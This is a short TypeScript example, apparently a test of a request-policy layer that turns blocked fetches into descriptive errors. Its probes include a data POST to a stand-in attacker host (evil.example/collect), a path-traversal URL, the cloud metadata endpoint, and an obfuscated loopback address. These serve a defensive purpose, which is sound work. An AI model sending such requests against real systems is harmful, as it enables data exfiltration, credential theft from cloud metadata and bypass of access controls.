// What a script sees of a refusal: an error like any other, which says what was asked, which rule spoke, and why.

const attempt = async (url: string, init?: RequestInit) => {
  try {
    const response = await fetch(url, init);
    return `${response.status}`;
  } catch (error) {
    if (!(error instanceof PolicyError)) throw error;
    const { name, reason, rule, method } = error;
    return { name, reason, rule, method };
  }
};

export default async () => ({
  another_host: await attempt("https://evil.example/collect", { method: "POST", body: "data" }),
  another_method: await attempt("http://api.example.com/items/1", { method: "DELETE" }),
  denied_by_rule: await attempt("http://api.example.com/items/secret"),
  around_the_path: await attempt("http://api.example.com/items/../admin"),
  cloud_metadata: await attempt("http://169.254.169.254/latest/meta-data/"),
  loopback_in_disguise: await attempt("http://0x7f.1:8787/"),
});
